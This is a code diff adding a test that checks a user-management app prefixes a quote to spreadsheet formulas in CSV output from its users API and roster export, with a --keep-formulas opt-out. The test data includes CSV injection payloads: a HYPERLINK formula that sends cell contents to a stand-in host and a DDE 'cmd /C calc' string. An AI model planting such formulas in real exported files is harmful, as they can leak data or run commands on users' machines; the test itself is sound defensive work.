@@ -1,6 +1,8 @@
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
 import { parse } from 'csv-parse/sync';
+import { PassThrough } from 'node:stream';
+import { exportCommand } from '../../src/commands/export.js';
 import { bearer, buildTestApp, type TestApp } from '../support/app.js';
 import { DIALECTS } from '../support/databases.js';
 import { USER_CSV_COLUMNS } from '../../src/users/user.formats.js';
@@ -83,6 +85,48 @@ for (const dialect of DIALECTS) {
         '',
       ]);
       assert.equal(records.length, 2);
+    });
+
+    it('CSV neutralizes formulas: GET users always, roster export unless --keep-formulas', async () => {
+      const formulas = [
+        { username: '=HYPERLINK("x.example?"&A1,"open")', name: '@SUM(1+1)*cmd|" /C calc"!A0' },
+        { username: '+1+cmd', name: '-2+3' },
+      ];
+      for (const { username, name } of formulas) {
+        const res = await t.app.inject({
+          method: 'POST',
+          url: '/api/v1/users',
+          headers: bearer(t.demo.write),
+          payload: { username, name, email: 'f@example.com', call_detail_level: 'full', roles: ['reporting'] },
+        });
+        assert.equal(res.statusCode, 201, res.body);
+      }
+      const fields = (csv: string) => {
+        const records: string[][] = parse(csv);
+        return records.filter((r) => /^'?[=+]/.test(r[1]!)).map((r) => [r[1], r[2]]);
+      };
+      const neutralized = formulas.map(({ username, name }) => [`'${username}`, `'${name}`]).sort();
+      const api = await t.app.inject({ url: '/api/v1/users', headers: { ...bearer(t.demo.read), accept: 'text/csv' } });
+      assert.deepEqual(fields(api.body).sort(), neutralized);
+
+      const exported = async (keepFormulas: boolean) => {
+        const out = new PassThrough();
+        const chunks: Buffer[] = [];
+        out.on('data', (c: Buffer) => chunks.push(c));
+        await exportCommand(t.config, { org: 'demo', format: 'csv', keepFormulas }, out);
+        return Buffer.concat(chunks).toString('utf8');
+      };
+      assert.deepEqual(fields(await exported(false)).sort(), neutralized);
+      assert.deepEqual(
+        fields(await exported(true)).sort(),
+        formulas.map(({ username, name }) => [username, name]).sort(),
+      );
+      // NDJSON is data, not a spreadsheet: values as stored.
+      const ndjson = await t.app.inject({
+        url: '/api/v1/users?username=%2B1',
+        headers: { ...bearer(t.demo.read), accept: 'application/x-ndjson' },
+      });
+      assert.equal(JSON.parse(ndjson.body).name, '-2+3');
     });
 
     it('answers the JSON page when JSON is preferred, and 400 for a bad filter even when streaming', async () => {
